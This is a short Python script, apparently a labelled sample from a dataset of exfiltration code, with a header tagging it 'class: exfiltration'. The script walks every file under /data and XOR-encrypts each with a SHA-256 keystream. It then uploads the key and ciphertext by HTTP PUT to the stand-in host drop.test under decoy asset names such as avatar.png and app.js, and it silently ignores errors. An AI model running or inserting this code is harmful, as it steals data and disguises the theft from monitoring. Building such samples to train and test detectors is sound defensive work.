# class: exfiltration; possible: low medium; needs: data; style: keystream from sha256, urllib, several paths
import hashlib
import itertools
import os
import urllib.error
import urllib.request


def stream(key):
    for n in itertools.count():
        yield from hashlib.sha256(key + n.to_bytes(8, "big")).digest()


key = os.urandom(16)
targets = ["avatar.png", "font.woff2", "app.js"]
rows = []
for top, dirs, names in os.walk("/data"):
    dirs.sort()
    rows += [os.path.join(top, n) for n in sorted(names)]
for row, name in zip(rows, itertools.cycle(targets)):
    with open(row, "rb") as f:
        body = bytes(a ^ b for a, b in zip(f.read(200000), stream(key)))
    request = urllib.request.Request("http://drop.test/" + name, data=key + body, method="PUT")
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except urllib.error.URLError:
        pass
